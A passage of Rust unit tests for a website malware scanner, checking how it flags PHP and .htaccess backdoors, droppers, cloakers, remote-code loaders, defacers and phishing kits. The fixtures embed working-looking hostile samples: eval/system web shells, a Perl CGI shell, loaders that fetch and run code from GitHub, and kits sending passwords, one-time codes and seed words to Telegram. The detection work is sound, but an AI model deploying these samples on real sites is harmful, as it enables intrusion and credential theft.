        assert!(!wants_content("x.php.jpg"));
        assert!(whys("x/x.php.jpg", "GIF89a, no code here").is_empty());
        // fresh73's polyglot: a picture's bytes, then code, under a PHP ending before the data
        // one (under a data ending alone, code past the head is a picture's bytes).
        let polyglot = format!("\u{89}PNG\r\n{}<?php eval(gzinflate(base64_decode($_POST['x'])));", "x".repeat(20000));
        assert!(whys("up/ancrit.php.jpg", &polyglot).contains(&Why::PhpUnderDataName));
        assert!(whys("up/ancrit.jpg", &polyglot).is_empty());
        // The sweep reads the whole of such a name, not the head alone.
        assert!(worth_reading("ancrit.php.jpg", b"\x89PNG\r\n") && !worth_reading("ancrit.jpg", b"\x89PNG\r\n"));
    }

    #[test]
    fn the_applications_facts_are_made_once_per_file() {
        // A file manager a visitor drives (a check of the shapes asks whether the application
        // owns it) that also saves uploads (the sweep's own check asks the same).
        let src = "<?php\n$d = $_GET['d'];\nforeach (scandir($d) as $f) { echo $f; }\n\
                   unlink($_GET['del']);\nrename($_GET['from'], $_GET['to']);\n\
                   move_uploaded_file($_FILES['f']['tmp_name'], $d . '/' . $_FILES['f']['name']);\n";
        crate::app::MADE.with(|c| c.set(0));
        let found = whys("site/fm.php", src);
        assert!(found.contains(&Why::FileManagerShell) && found.contains(&Why::UploadDropper), "{found:?}");
        assert_eq!(crate::app::MADE.with(|c| c.get()), 1);
    }

    #[test]
    fn lines_are_counted_once_for_all_places() {
        let text = b"a\nb\n\nc";
        let offsets = [6, 0, 2, 5, 99, 2];
        let each: Vec<usize> = offsets.iter().map(|&at| line_of(text, at)).collect();
        assert_eq!(lines_of(text, &offsets), each);
        assert_eq!(each, [4, 1, 2, 4, 4, 2]);
    }

    #[test]
    fn code_saved_without_an_open_tag_is_read_as_code() {
        // A payload kept for `eval` (a loader reads the file) has no `<?php`: read as a page of
        // text, it said nothing.
        let payload = "@error_reporting(0);\n$k = $_POST['k'];\neval(base64_decode($k));\n";
        assert!(tagless_code(payload.as_bytes()));
        assert_eq!(whys("wp-includes/wp-cache.php", payload).first(), Some(&Why::CodeFromInput));
        // Near-misses: templates, markup and text start otherwise, and a file with a tag is read
        // from its tag.
        for text in [
            "@extends('layouts.app')\n@section('content') {{ $title }} @endsection\n",
            "<div class=\"note\">{{ $message }}</div>\n",
            "Thanks for your order ($total).\n",
            "$x = 1; ?>\n<?php echo 2;",
        ] {
            assert!(!tagless_code(text.as_bytes()), "{text}");
        }
        assert!(whys("resources/views/page.blade.php", "@if($user)\n eval({{ $code }})\n@endif\n").is_empty());
    }

    #[test]
    fn a_tagless_payload_whose_first_call_is_longer_than_the_part_read_is_code() {
        // Regression: `eval(base64_decode("…"))` of 27 KB on one line, saved as `x.php.file` by
        // the web shell that runs it, was read as a page of text (its `;` lay past 4 KB).
        let blob = "ZWNobyAnaGknOw".repeat(400);
        let payload = format!("eval(base64_decode(\"{blob}\"));\n");
        assert!(payload.len() > TAGLESS_HEAD);
        assert!(tagless_code(payload.as_bytes()));
        assert!(whys("wp-content/cache.php", &payload).contains(&Why::EvalOfDecoded));
        // Near-misses: a short line of text that only looks like a call, and a long line of text.
        assert!(!tagless_code(b"Contact us (we answer within a day"));
        // Code that writes XML is code; a PHP opening further down makes it a page.
        let sitemap = "@ini_set('log_errors', 0);$h = \"<?xml version=\\\"1.0\\\"?\" . \">\";\nif ($_POST['sa'] == 'eval') { eval($_POST['data']); }";
        assert!(tagless_code(sitemap.as_bytes()));
        assert!(whys("blog/bs4p4.php", sitemap).contains(&Why::CodeFromInput));
        assert!(!tagless_code(format!("{sitemap}\n<?php echo 1;").as_bytes()));
        let prose = format!("Thanks for your order ({})", "a".repeat(5000));
        assert!(!tagless_code(prose.as_bytes()));
    }

    #[test]
    fn backdoor_shapes_are_found() {
        assert_eq!(whys("x.php", "<?php @eval(base64_decode($_POST['k']));"), [Why::CodeFromInput]);
        assert_eq!(whys("x.php", "<?php assert($_REQUEST['a']);"), [Why::CodeFromInput]);
        assert_eq!(whys("x.php", "<?php $_GET['f']($_GET['a']);"), [Why::DynamicCallFromInput]);
        assert_eq!(whys("x.php", "<?php system($_GET['c']);"), [Why::ShellFromInput]);
        assert_eq!(whys("x.php", "<?php preg_replace('/.*/e', $_POST['c'], '');"), [Why::PregReplaceEval]);
        let blob = format!("<?php $x = gzinflate(base64_decode('{}')); eval($x);", "QUJD".repeat(400));
        assert_eq!(whys("x.php", &blob), [Why::EvalOfDecoded, Why::EncodedBlob]);
    }

    #[test]
    fn a_program_kept_under_a_scripts_ending_is_read_as_one() {
        // fresh28's themes.js: a Perl CGI shell run through a handler for `.js` beside it.
        let cgi = "#!/usr/bin/perl\n%F = parse($ENV{'QUERY_STRING'});\n$cmd = $F{'cmd'};\n\
                   open(CMD, \"($cmd) 2>&1 |\") || print 'failed';\nprint while (<CMD>);\n";
        assert_eq!(whys("themes.js", cgi), [Why::ShellFromInput]);
        // Node's own command-line scripts stay JavaScript.
        let node = "#!/usr/bin/env node\nconst cp = require('child_process');\ncp.exec(process.argv[2]);\n";
        assert!(whys("cli.js", node).is_empty());
    }

    #[test]
    fn htaccess_tricks_are_found() {
        let t = "RewriteEngine On\nRewriteCond %{HTTP_USER_AGENT} (google|bing) [NC]\nRewriteRule ^(.*)$ https://spam-pills.example/$1 [R=302,L]\n";
        assert_eq!(whys(".htaccess", t), [Why::ConditionalRedirect, Why::ForeignRedirect]);
        assert_eq!(whys(".htaccess", "AddHandler application/x-httpd-php .jpg\n"), [Why::HandlerOnData]);
        assert_eq!(whys(".user.ini", "auto_prepend_file = /home/demo/.cache/x.php\n"), [Why::PrependAppend]);
    }

    #[test]
    fn htaccess_handing_page_names_to_a_made_up_script_is_a_doorway() {
        // A doorway kit's folder: every `*.html` asked for is made by its randomly named generator.
        let kit = "RewriteEngine On \nRewriteRule ^([A-Za-z0-9-]+).html$ 6szo68jxftuiqbk.php?world=5&looping=135&fn=2021st&hl=$1 [L]";
        assert_eq!(whys(".htaccess", kit), [Why::RewriteToHiddenScript]);
        // fresh76's honeypot capture: the generator's own query under another made-up name,
        // written by a script that assembles the settings file's name from pieces.
        let one_digit = kit.replace("6szo68jxftuiqbk", "rskpeauqp3tru");
        assert_eq!(whys(".htaccess", &one_digit), [Why::RewriteToHiddenScript]);
        let writer = format!(
            "<?php $ff = '.ht' . 'acc' . 'ess'; if (filesize($ff) > 120) {{ $h = fopen($ff, 'w'); fwrite($h, \"{}\"); fclose($h); }}",
            one_digit.replace('$', "\\$")
        );
        assert!(!whys("zzz.php", &writer).is_empty(), "{writer}");
        // Near-misses (review): an application's page scripts with a digit in a word-like name.
        for name in ["worldcup2022", "html5sitemap", "lightboxgallery2"] {
            let rule = format!("RewriteRule ^match/([0-9]+)$ {name}.php?id=$1 [L,QSA]\n");
            assert!(whys(".htaccess", &rule).is_empty(), "{rule}");
        }
        // A campaign's folder under the site, its script spelled with escapes.
        for kit in [
            "RewriteRule ^.*/(\\d+)-.*/$ menuso/index\\.php?id=$1&%{QUERY_STRING} [L]",
            "RewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule ^(.*) MemoryObject.\\php?id=$1&%{QUERY_STRING}",
        ] {
            assert_eq!(whys(".htaccess", kit), [Why::RewriteToHiddenScript], "{kit}");
        }
        // Inside WordPress's own block, where a campaign put its rules so that they look trusted.
        let inside = "# BEGIN WordPress\nRewriteEngine On\nRewriteBase /\n\
                      RewriteRule ^.*/(\\d+)-.*/$ menuso/index\\.php?id=$1&%{QUERY_STRING} [L]\n\
                      RewriteRule ^index\\.php$ - [L]\nRewriteRule . /index.php [L]\n# END WordPress\n";
        assert_eq!(whys(".htaccess", inside), [Why::RewriteToHiddenScript]);
        // An application's pretty addresses, its scripts named by words.
        for own in [
            "RewriteRule ^([a-z0-9-]+)\\.html$ index.php?page=$1 [L,QSA]",
            "RewriteRule ^(.*)\\.html$ product2json5.php?id=$1 [L]",
            "RewriteRule ^p/(.*)$ utf8mb4fix.php?p=$1 [L]",
            "RewriteRule ^x$ a1b2c3d4e5f6.php [L]",
            "RewriteRule ^user-([0-9]+).html$ index\\.php\\?c=user&id=$1&%1 [L]",
            "RewriteRule ^(.*css_[a-z]+)\\.css$ $1\\.css\\.gz [QSA]",
            "RewriteRule ^(.*)$ blog/index.php?q=$1 [L]",
            // WordPress multisite's old file server.
            "RewriteRule ^([_0-9a-zA-Z-]+/)?files/(.+) wp-includes/ms-files.php?file=$2 [L]",
        ] {
            assert!(whys(".htaccess", own).is_empty(), "{own}");
        }
        // Regression: page names under made-up prefixes handed to a script planted in
        // WordPress's library folder (fresh15's `wp-includes/assets/index.php?a1=$1`).
        let core = "RewriteRule ^dECyYGs/(.*)$ /wp-includes/assets/index.php?a1=$1 [L]\n";
        assert_eq!(whys(".htaccess", core), [Why::RewriteToHiddenScript]);
        // Regression: every `.html` page handed to a script named like WordPress's own that
        // WordPress does not have (fresh23's `wp-blog.php?key=$1`, inside WordPress's block).
        let lookalike = "# BEGIN WordPress\nRewriteEngine On\nRewriteBase /\nRewriteRule ^(.+).html$ wp-blog.php?key=$1\n\
                         RewriteRule ^index\\.php$ - [L]\nRewriteRule . /index.php [L]\n# END WordPress\n";
        assert_eq!(whys(".htaccess", lookalike), [Why::RewriteToHiddenScript]);
        // WordPress's own scripts, and a plugin's in its folder, are not.
        for own in [
            "RewriteRule ^signup/(.*)$ wp-signup.php?new=$1 [L]",
            "RewriteRule ^feeds/(.*)$ wp-content/plugins/feeds/wp-feed.php?f=$1 [L]",
        ] {
            assert!(whys(".htaccess", own).is_empty(), "{own}");
        }
    }

    #[test]
    fn ordinary_code_is_quiet() {
        assert!(whys("x.php", "<?php echo esc_html( $title ); $r = preg_replace('/\\s+/', ' ', $s);").is_empty());
        let own = "RewriteEngine On\nRewriteRule ^old$ https://www.demo-shop.example/new [R=301,L]\n";
        assert!(whys(".htaccess", own).is_empty());
        assert!(
            whys(".htaccess", "# BEGIN WordPress\nRewriteEngine On\nRewriteRule . /index.php [L]\n# END WordPress\n")
                .is_empty()
        );
    }

    #[test]
    fn an_applications_upload_handler_is_not_a_dropper() {
        let save = "move_uploaded_file($_FILES['f']['tmp_name'], $dir . $_FILES['f']['name']);";
        // A tiny script a visitor requests to save a file of their choosing: a dropper.
        assert_eq!(whys("x.php", &format!("<?php {save}")), [Why::UploadDropper]);
        assert_eq!(whys("x.php", &format!("<?php if ($_POST['k'] == 'secret') {{ {save} }}")), [Why::UploadDropper]);
        let runs_itself = format!("<?php class Up {{ function go() {{ {save} }} }} (new Up)->go();");
        assert_eq!(whys("x.php", &runs_itself), [Why::UploadDropper]);
        // The application's: stops unless included, behind its permission check, or a method.
        assert!(whys("x.php", &format!("<?php defined('IN_APP') or exit;\n{save}")).is_empty());
        assert!(whys("x.php", &format!("<?php if (!User::require_acl('admin')) {{ exit; }}\n{save}")).is_empty());
        assert!(
            whys("x.php", &format!("<?php class Media extends Controller {{ function upload() {{ {save} }} }}"))
                .is_empty()
        );
        // A guard that leaves when the name's type is not allowed (fresh38's old Contact Form 7
        // `modules/file.php`): what follows it in the function runs only after the test; a
        // guard that does not leave guards nothing.
        let guarded = "<?php function up($file, $dir) { if (!preg_match('/\\.(jpg|png|pdf)$/i', $file['name'])) { return false; } move_uploaded_file($_FILES['f']['tmp_name'], $dir . $_FILES['f']['name']); }";
        assert!(whys("x.php", guarded).is_empty());
        let notes_only = guarded.replace("return false;", "$bad = true;");
        assert_eq!(whys("x.php", &notes_only), [Why::UploadDropper]);
        // A form that saves the picture, then records it in the shop's database under the name
        // it was saved as, is the shop's; an unrelated row written after a save is not a record.
        let product =
            "$name = $_FILES['img']['name'];\nmove_uploaded_file($_FILES['img']['tmp_name'], 'photos/' . $name);";
        let insert = "mysqli_query($db, \"INSERT INTO products (title, photo) VALUES ('$title', '$name')\");";
        assert!(whys("x.php", &format!("<?php {product}\n{insert}")).is_empty());
        let update = "$db->query('UPDATE gallery SET file=\\'' . $name . '\\' WHERE id=' . (int) $id);";
        assert!(whys("x.php", &format!("<?php {product}\n{update}")).is_empty());
        let unrelated = "mysqli_query($db, \"INSERT INTO visits (ip) VALUES ('$ip')\");";
        assert_eq!(whys("x.php", &format!("<?php {product}\n{unrelated}")), [Why::UploadDropper]);
        let far = format!("<?php {product}\n/*{}*/\n{insert}", "x".repeat(2000));
        assert_eq!(whys("x.php", &far), [Why::UploadDropper]);
        let before = format!("<?php {insert}\n{product}");
        assert_eq!(whys("x.php", &before), [Why::UploadDropper]);
        // fresh57's admin form: the saved path is made from the name beforehand, and the row
        // names the name, not the path.
        let edit = "$image = $_FILES['image']['name'];\n$loc = '../../dist/img/credit/' . $image;\nmove_uploaded_file($_FILES['image']['tmp_name'], $loc);";
        let row = "$sql = \"UPDATE `testimonial` SET `image`='$image' WHERE id='$id'\"; mysqli_query($conn, $sql);";
        assert!(whys("x.php", &format!("<?php {edit}\n{row}")).is_empty());
        assert_eq!(whys("x.php", &format!("<?php {edit}\n{unrelated}")), [Why::UploadDropper]);
        // fresh61's pouet.net logo form: the statement is built over several lines, and the
        // saved name is in a continuation; a continuation that is another variable's is not.
        let built = "$q = \"INSERT INTO logos SET \";\n$q .= \"file='\" . $name . \"', \";\n$q .= \"author=\" . (int) $uid;\nmysql_query($q);";
        assert!(whys("x.php", &format!("<?php {product}\n{built}")).is_empty());
        let other = built.replace("$q .= \"file=", "$log .= \"file=");
        assert_eq!(whys("x.php", &format!("<?php {product}\n{other}")), [Why::UploadDropper]);
        // Regression (review): decoys. The statement handed to no query but an address's query
        // string, or given another value before the query runs, records nothing.
        let address = built.replace("mysql_query($q);", "$z = http_build_query(array($q));");
        assert_eq!(whys("x.php", &format!("<?php {product}\n{address}")), [Why::UploadDropper]);
        let replaced = built.replace("mysql_query($q);", "$q = 'SELECT 1'; mysql_query($q);");
        assert_eq!(whys("x.php", &format!("<?php {product}\n{replaced}")), [Why::UploadDropper]);
        let shell = built.replace("mysql_query($q);", "exec($q);");
        assert!(whys("x.php", &format!("<?php {product}\n{shell}")).contains(&Why::UploadDropper));
        // A plugin class's mail form is the application's; a top-level mailer a visitor drives is a
        // spam sender.
        let mail = "mail($_POST['to'], $_POST['subject'], $_POST['body'], $_POST['headers']);";
        assert_eq!(whys("x.php", &format!("<?php {mail}")), [Why::MailFromInput]);
        assert!(
            whys("x.php", &format!("<?php class MailForm extends Plugin {{ function send() {{ {mail} }} }}"))
                .is_empty()
        );
        // fresh57's newsletter: it mails the address a visitor signs up with, then records the
        // subscriber; a relay check records nothing.
        let signup = "$email = $_POST['email']; $to = 'Enquiry <' . $email . '>';\nif (mail($to, 'Welcome', '<h1>' . $email . '</h1>', 'From: news@demo-shop.example')) {";
        let form = "<form method=post><input name=email></form>";
        let saved = "mysqli_query($conn, \"INSERT INTO `subscribe`(`subscriber`) VALUES ('$email')\"); }";
        assert!(whys("x.php", &format!("<?php {signup}\n{saved} ?>{form}")).is_empty());
        assert_eq!(whys("x.php", &format!("<?php {signup} }} ?>{form}")), [Why::MailFromInput]);
        // Regression (review): an SQL statement written into a string that no query runs is no
        // record (a spam sender's decoy).
        let decoy = "$q = \"INSERT INTO `subscribe`(`subscriber`) VALUES ('$email')\"; }";
        assert_eq!(whys("x.php", &format!("<?php {signup}\n{decoy} ?>{form}")), [Why::MailFromInput]);
        let later = "$q = \"INSERT INTO `subscribe`(`subscriber`) VALUES ('$email')\"; mysqli_query($conn, $q); }";
        assert!(whys("x.php", &format!("<?php {signup}\n{later} ?>{form}")).is_empty());
        // Other findings of such a file stay; and a file found critical is a backdoor, whose
        // save is the backdoor's too (its application's checks are not looked for).
        assert_eq!(
            whys("x.php", &format!("<?php defined('IN_APP') or exit;\n{save} system($_GET['c']);")),
            [Why::ShellFromInput, Why::UploadDropper]
        );
        assert_eq!(whys("x.php", &format!("<?php defined('IN_APP') or exit;\n{save} echo `ls`;")), Vec::<Why>::new());
    }

    #[test]
    fn a_folder_name_alone_is_not_evidence_but_raises_weight() {
        assert!(whys("wp-content/uploads/2026/11/cache-img.php", "<?php echo 'hello';").is_empty());
        assert!(whys("core/modules/media/src/Media.php", "<?php class Media {}").is_empty());
        let weak = format!("<?php {} eval($code);", "$a = 1; ".repeat(200));
        assert!(whys("lib/x.php", &weak).is_empty());
        assert_eq!(whys("wp-content/mu-plugins/x.php", &weak), [Why::EvalOfVariable, Why::WordPressAutoload]);
    }

    #[test]
    fn a_mass_infector_writing_malicious_code_into_listed_folders_injects_it() {
        // fresh15's `_201107010113.php`: a cloaker held in `$code`, written at the top of every
        // theme's `header.php` found by reading the themes folder.
        let cloaker = "<?php $ua = strtolower($_SERVER[HTTP_USER_AGENT]); if (strpos($ua, \"google\")) { \
                       $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, \"http://203.0.113.7/cakes/?ua=$ua\"); \
                       $r = curl_exec($ch); echo $r; } ?>";
        let infector = |code: &str| {
            format!(
                "<?php\n$code = '{code}';\nforeach (scandir('wp-content/themes') as $dir) {{\n\
                 $h = \"wp-content/themes/$dir/header.php\"; chmod($h, 0777);\n\
                 $old = file_get_contents($h);\n{}$in = fopen($h, 'w'); fwrite($in, $code); fwrite($in, $old); fclose($in);\n}}\n",
                "chmod('wp-content', 0777);\n".repeat(40)
            )
        };
        assert!(whys("wp/_201107010113.php", &infector(cloaker)).contains(&Why::InjectsHiddenCode));
        // Near-misses: a folder guard written into every folder, and the cloaker held but never
        // written anywhere a folder read finds.
        assert!(whys("wp-content/plugins/guard/guard.php", &infector("<?php // Silence is golden.")).is_empty());
        let kept = format!("<?php\n$code = '{cloaker}';\nfile_put_contents('cache/x.txt', 'x');\n");
        assert!(!whys("wp/cache.php", &kept).contains(&Why::InjectsHiddenCode));
    }

    #[test]
    fn an_address_assembled_from_pieces_or_interpolated_is_read_as_another_sites() {
        // Regression: fresh83's loader with Japanese names builds `https://rentry.co/…/raw` from
        // variables and a string with two names in it; the address was not known, so `fopen`
        // of it was no download.
        let pieces = "<?php $p = 'https'; $d = 'rentry.co'; $e = 'x'; $path = \"/$e/raw\";\n\
            $u = $p . '://' . $d . $path; $fp = fopen($u, 'r'); $s = stream_get_contents($fp); eval('?>' . $s);";
        assert!(whys("a.php", pieces).contains(&Why::CodeFromInternet), "{:?}", whys("a.php", pieces));
        let interpolated = "<?php $h = 'rentry.co'; $s = file_get_contents(\"https://$h/x/raw\"); eval('?>' . $s);";
        assert!(whys("a.php", interpolated).contains(&Why::CodeFromInternet));
        // An address after a folder, or a local path, is not another site's.
        let local = "<?php $s = file_get_contents($dir . 'https://x'); eval('?>' . $s);";
        assert!(!whys("a.php", local).contains(&Why::CodeFromInternet));
        let folder = "<?php $f = '/var/cache/' . $name; $s = file_get_contents($f); eval('?>' . $s);";
        assert!(!whys("a.php", folder).contains(&Why::CodeFromInternet));
    }

    #[test]
    fn a_code_hosts_script_run_as_a_page_is_code_from_the_internet() {
        // Regression: fresh83's loader names its fetching functions with `chr` calls; only the
        // GitHub address and `eval("?>" . $code)` are written.
        let loader = "<?php $a = 'https://raw.githubusercontent.com/x/y/refs/heads/master/z.php'; \
            $f = chr(102) . chr(105); $code = $f($a); if ($code !== false) { eval(\"?>\" . $code); }";
        // (Found critical by the data's analysis first; the code host's shape says so too.)
        assert_eq!(whys("a.php", loader), [Why::EvalOfDecoded]);
        let t = crate::php::tokenize_for_test(loader.as_bytes(), 1 << 16);
        let shaped = shapes::analyze(loader.as_bytes(), &t, shapes::Options { small: true });
        assert!(shaped.iter().any(|s| s.why == Why::CodeFromInternet), "{shaped:?}");
        // A link to a script on GitHub in a page that runs nothing.
        let link = "<?php echo '<a href=\"https://raw.githubusercontent.com/x/y/main/install.php\">get it</a>';";
        assert!(whys("a.php", link).is_empty());
        // Regression: fresh103's `mmek.php` fetches a picture from GitHub's file server into a
        // variable named by a table (`${$GLOBALS['x']}`) and runs it as a page.
        let picture = "<?php $GLOBALS['k'] = 'a'; function get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }\n\
            ${$GLOBALS['k']} = get('https://user-images.githubusercontent.com/1/2-3.jpg');\neval('?>' . ${$GLOBALS['k']});";
        assert!(whys("a.php", picture).contains(&Why::CodeFromInternet), "{:?}", whys("a.php", picture));
        // Regression: fresh104's theme head has curl save an uploader from GitHub itself
        // (`CURLOPT_FILE`); its mass dropper saves a text from there as PHP in many folders;
        // its loader writes names in any case and runs the text from a temporary file.
        let theme = "<?php function dl($u, $p) { $ch = curl_init($u); $fp = fopen($p, 'w'); curl_setopt($ch, CURLOPT_FILE, $fp); curl_exec($ch); fclose($fp); }\n\
            dl('https://raw.githubusercontent.com/x/shell/main/upload.php', wp_upload_dir()['basedir'] . '/archive.php');";
        assert!(whys("functions.php", theme).contains(&Why::CodeFromInternet), "{:?}", whys("functions.php", theme));
        let mass = "<?php $files = [['url' => 'https://raw.githubusercontent.com/x/room/refs/heads/main/gecko.txt']];\n\
            foreach ($files as $f) { $c = @file_get_contents($f['url']); foreach ($dirs as $d) { file_put_contents($d . '/' . rand(1, 9) . '.php', $c); } }";
        assert!(whys("msal.php", mass).contains(&Why::CodeFromInternet), "{:?}", whys("msal.php", mass));
        let cased = "<?= $url = 'https://raw.githubusercontent.com/x/simpan/refs/heads/main/anon.txt';\n\
            $ch = CurL_init /* a */($url); cUrl_setOpt($ch, CURLOPT_RETURNTRANSFER, TRUE); $res = curl_ExEC/* b */($ch);\n\
            $tmp = TMPfIle(); $path = streaM_Get_meTa_daTa($tmp); $path = $path['uri']; fprintf($tmp, '%s', $res); ReqUire/* c */$path; ?>";
        assert!(!whys("bypassblank.php", cased).is_empty(), "{:?}", whys("bypassblank.php", cased));
        // A list kept on GitHub, fetched and cached as data, is data.
        let list = "<?php $l = file_get_contents('https://raw.githubusercontent.com/x/lists/main/bots.json'); file_put_contents(__DIR__ . '/bots.json', $l);";
        assert!(whys("update-list.php", list).is_empty(), "{:?}", whys("update-list.php", list));
        // Regression (Yii's `MimeTypeController.php`): PHP generated from a list fetched there.
        let generator = "<?php if ($src = file_get_contents('https://raw.githubusercontent.com/apache/httpd/trunk/docs/conf/mime.types')) {\n\
            $content = '<?php return ' . var_export(parse($src), true) . ';'; file_put_contents(__DIR__ . '/mimeTypes.php', $content); }";
        assert!(
            whys("MimeTypeController.php", generator).is_empty(),
            "{:?}",
            whys("MimeTypeController.php", generator)
        );
        // Regression: fresh106's `love.php` runs a picture fetched from any site as a page;
        // a version file fetched and saved by an updater that names PHP runs nothing.
        let love = "<?php ${'GLOBALS'}['a'] = 'x'; ${${'GLOBALS'}['a']} = curl_init(); curl_setopt(${${'GLOBALS'}['a']}, CURLOPT_URL, 'https://x.example/hx.jpg');\n\
            $r = curl_exec(${${'GLOBALS'}['a']}); eval('?>' . $r);";
        assert!(whys("love.php", love).contains(&Why::CodeFromInternet), "{:?}", whys("love.php", love));
        let updater = "<?php $v = file_get_contents('https://updates.example.com/version.txt'); file_put_contents(__DIR__ . '/version.txt', $v); include 'config.php';";
        assert!(whys("update.php", updater).is_empty(), "{:?}", whys("update.php", updater));
        // A picture from there shown in a page is a picture.
        let shown = "<?php $p = file_get_contents('https://user-images.githubusercontent.com/1/2-3.jpg'); echo base64_encode($p);";
        assert!(whys("a.php", shown).is_empty());
    }

    #[test]
    fn a_secret_typed_by_the_visitor_sent_to_a_chat_bot_is_collected() {
        // Regression: fresh83's bank kit sends the password and the one-time code to Telegram,
        // in Markdown (`*Password:* {$password}`, `*Code:* `{$code}``).
        let otp = "<?php $bot = '1:abc'; $code = trim($_POST['twoFactAuthConfCode']);\n\
            $message = \"*Code:* `{$code}`\";\n\
            file_get_contents(\"https://api.telegram.org/bot{$bot}/sendMessage?\" . http_build_query(['text' => $message]));\n\
            header('Location: done.html');";
        assert_eq!(whys("otp.php", otp), [Why::CredentialCollector]);
        let login = "<?php $email = $_POST['username']; $password = $_POST['password'];\n\
            $m = \"*Email:* {$email}\\n\"; $m .= \"*Password:* {$password}\\n\";\n\
            $ch = curl_init('https://api.telegram.org/bot1:a/sendMessage'); curl_setopt($ch, CURLOPT_POSTFIELDS, ['text' => $m]); curl_exec($ch);";
        assert_eq!(whys("login.php", login), [Why::CredentialCollector]);
        // A contact form posted to the owner's chat bot asks for no secret.
        let contact = "<?php $name = $_POST['name']; $msg = $_POST['message'];\n\
            $text = \"*Name:* {$name}\\n*Message:* {$msg}\";\n\
            file_get_contents('https://api.telegram.org/bot1:a/sendMessage?' . http_build_query(['text' => $text]));\n\
            header('Location: thanks.html');";
        assert!(whys("contact.php", contact).is_empty(), "{:?}", whys("contact.php", contact));
        // Regression: fresh93's steps with no secret in them: a wallet's seed words sent on, the
        // visitor then sent to the real sign-in; a username sent, the visitor carried on to the
        // kit's password page with it.
        let seed = "<?php $words = []; for ($i = 1; $i <= 24; $i++) { $words[] = trim($_POST[\"word$i\"]); }\n\
            $msg = implode(' ', $words);\n\
            $ch = curl_init(\"https://api.telegram.org/bot{$botToken}/sendMessage\"); curl_setopt_array($ch, [CURLOPT_POSTFIELDS => ['text' => $msg]]); curl_exec($ch);\n\
            header('Location: https://login.coinbase.com/signin'); exit;";
        assert_eq!(whys("seed.php", seed), [Why::CredentialCollector]);
        let step = "<?php $email = $_POST['username'] ?? '';\n\
            $message = 'New email submitted: ' . htmlspecialchars($email);\n\
            $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, \"https://api.telegram.org/bot$bot_token/sendMessage\");\n\
            curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(['text' => $message])); curl_exec($ch);\n\
            header('Location: ../pass.php?email=' . urlencode($email)); exit;";
        assert_eq!(whys("sendmail.php", step), [Why::CredentialCollector]);
        // Regression: fresh107's bank kit labels a social security number among names and
        // sends it to Telegram before the kit's card step.
        let ssn = "<?php $a1 = $_POST['name1']; $b5 = $_POST['ssn'];\n$data .= \"First Name : {$a1}\\n\"; $data .= \"SSN : {$b5}\\n\";\n\
            $ch = curl_init('https://api.telegram.org/bot' . $token . '/sendMessage'); curl_setopt($ch, CURLOPT_POSTFIELDS, ['text' => $data]); curl_exec($ch);\n\
            header('Location: ../../card.php');";
        assert_eq!(whys("js-3.php", ssn), [Why::CredentialCollector]);
        // The contact form's thanks page, with or without a query of its own, is not a next step.
        let thanks = contact.replace("thanks.html", "thanks.php?sent=1");
        assert!(whys("contact.php", &thanks).is_empty());
        let named = contact.replace("'Location: thanks.html'", "'Location: thanks.php?sent=' . $sent");
        assert!(whys("contact.php", &named).is_empty());
    }

    #[test]
    fn a_php_files_text_printed_to_crawlers_is_cloaking() {
        // Regression: fresh83's and fresh82's cloakers show Googlebot a file's text (`pp.php`,
        // `config.js`) and include the site for everyone else.
        let cloaker = "<?php function is_bot() { foreach (array('Googlebot', 'Google-InspectionTool') as $a) {\n\
            if (strpos($_SERVER['HTTP_USER_AGENT'], $a) !== false) return true; } return false; }\n\
            if (is_bot()) { $page = file_get_contents('/home/u1/public_html/pp.php'); echo $page; exit; }\n\
            else { include('main.php'); exit; }";
        assert!(whys("index.php", cloaker).contains(&Why::SearchEngineCloaking), "{:?}", whys("index.php", cloaker));
        // A single-page application's snapshot for crawlers is a page.
        let snapshot = cloaker.replace("/home/u1/public_html/pp.php", "snapshots/home.html");
        assert!(!whys("index.php", &snapshot).contains(&Why::SearchEngineCloaking));
    }

    #[test]
    fn cpanels_port_as_a_query_is_a_fake_cpanel_login() {
        // Regression: fresh83's `wp-login.php` sends administrators to `/?:2083`, where the hooked
        // `index.php` shows Alfa's fake cPanel login.
        let lure = "<?php $u = \"https://example.gov/?:2083\"; header(\"Refresh: 2; URL=$u\");";
        assert_eq!(whys("wp-login.php", lure), [Why::PhishingPage]);
        // A link to the account's own cPanel.
        let link = "<?php echo '<a href=\"https://example.com:2083/\">cPanel</a>';";
        assert!(whys("links.php", link).is_empty());
    }

    #[test]
    fn a_page_downloaded_into_every_folders_home_page_is_a_mass_defacer() {
        // Regression: fresh84's defacer walks the document root and has curl append its page to
        // each folder's `index.php`.
        let defacer = "<?php $root = $_SERVER['DOCUMENT_ROOT']; foreach (scandir($root) as $d) {\n\
            if (is_dir(\"$root/$d\")) { $f = $root . '/' . $d . '/' . 'index.php';\n\
            shell_exec('curl https://example.net/page.html >> ' . $f); } }";
        assert!(whys("x.php", defacer).contains(&Why::MassDefacer), "{:?}", whys("x.php", defacer));
        // An updater downloading an archive into one folder.
        let updater = "<?php foreach (scandir($dir) as $d) { echo $d; }\n\
            shell_exec('wget -O /tmp/latest.zip https://wordpress.org/latest.zip');";
        assert!(!whys("x.php", updater).contains(&Why::MassDefacer));
    }

    #[test]
    fn a_file_without_an_ending_required_from_the_home_folder_is_data_run_as_code() {
        // Regression: fresh82's OJS bootstrap requires `/home3/edu38800/bash`.
        let boot = "<?php require('/home3/edu38800/bash'); define('X', 1); require('./lib/functions.inc.php');";
        assert_eq!(whys("includes/bootstrap.inc.php", boot), [Why::IncludeOfData]);
        for own in ["/home/u1/public_html/wp-load.php", "/home/u1/config.php", "/home/u1/lib/vendor"] {
            let src = format!("<?php require('{own}');");
            assert!(whys("a.php", &src).is_empty(), "{own}");
        }
    }

    #[test]
    fn a_page_included_for_crawlers_and_search_visitors_is_cloaking() {
        // Regression: fresh86's slot doorway includes `home.html` for Googlebot and for visitors
        // from google.co.id, and the site's own `index_old.php` for everyone else.
        let doorway = "<?php function bot() { foreach (['Googlebot', 'Google-InspectionTool'] as $a) {\n\
            if (stripos($_SERVER['HTTP_USER_AGENT'], $a) !== false) return true; } return false; }\n\
            function searcher() { return strpos($_SERVER['HTTP_REFERER'], 'google.co.id') !== false; }\n\
            if (bot() || searcher()) { include __DIR__ . '/home.html'; } else { include('index_old.php'); exit; }";
